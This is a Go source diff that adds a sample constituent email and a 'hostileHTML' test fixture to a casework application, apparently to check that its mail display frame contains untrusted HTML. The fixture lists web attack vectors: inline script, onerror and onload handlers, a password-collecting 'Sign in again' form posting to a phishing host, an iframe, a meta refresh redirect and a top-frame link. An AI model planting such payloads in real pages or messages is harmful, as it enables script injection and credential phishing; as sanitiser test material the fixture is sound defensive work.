@@ -125,10 +125,17 @@ func sampleMessages() []casework.Message {
 			Defects:     []casework.Defect{{Code: "charset-unknown", Detail: "The text names no character set; it was read as UTF-8."}}},
 		{ID: 14, Case: 3, Direction: casework.Out, Channel: casework.Mail, From: office, To: []casework.Correspondent{rosa}, Subject: "With Public Works: C-48213-5", Text: "Public Works has your case now.", At: noon.Add(-20 * time.Minute),
 			Delivery: &casework.Delivery{ID: 2, State: casework.BouncedBack, Reason: "The mailbox is full (5.2.2).", Attempts: 1}},
+		{ID: 17, Case: 4, Direction: casework.In, Channel: casework.Mail, Kind: casework.Personal, From: casework.Correspondent{Name: "Harold Whitcomb", Address: "harold@mail.example"}, To: []casework.Correspondent{office}, Subject: "Streetlight", Text: "The light is out.", At: noon.Add(-72 * time.Hour), Raw: 1, HTML: hostileHTML},
 		{ID: 15, Case: 9, Direction: casework.In, Channel: casework.Mail, Kind: casework.Personal, From: casework.Correspondent{Name: "Gloria Santos", Address: "gloria@mail.example"}, To: []casework.Correspondent{office}, Subject: "To all councilors: keep the library open", Text: "Please keep it open on Sundays.", At: noon.Add(-7 * time.Hour), Raw: 1},
 		{ID: 16, Case: 9, Direction: casework.Out, Channel: casework.Mail, From: casework.Correspondent{Name: "Office of Councilor Ana Ruiz"}, Subject: "What District 4 answered", Text: "The answer of District 4 alone.", At: noon.Add(-5 * time.Hour), Delivery: &casework.Delivery{ID: 3, State: casework.Sent}},
 	}
 }
+
+// hostileHTML is what no sanitiser ought to let through. The frame has to bear it all the same.
+const hostileHTML = `<p id="here">The light is out.</p><script>document.getElementById("here").textContent="SCRIPT RAN"</script>
+<img src="https://tracker.invalid/pixel.gif" onerror="document.body.textContent='HANDLER RAN'"><style>p{color:red;font-size:90px}</style><p style="position:fixed;top:0">styled</p>
+<form action="https://phish.invalid/" method="post"><input name="password"><button id="send">Sign in again</button></form><iframe src="https://frame.invalid/"></iframe>
+<meta http-equiv="refresh" content="0;url=https://refresh.invalid/"><link rel="stylesheet" href="https://css.invalid/x.css"><a id="up" href="https://link.invalid/" target="_top">up</a><svg onload="parent.document.title='SVG RAN'"></svg></body></html>`
 
 func sampleEvents() []casework.Event {
 	return []casework.Event{
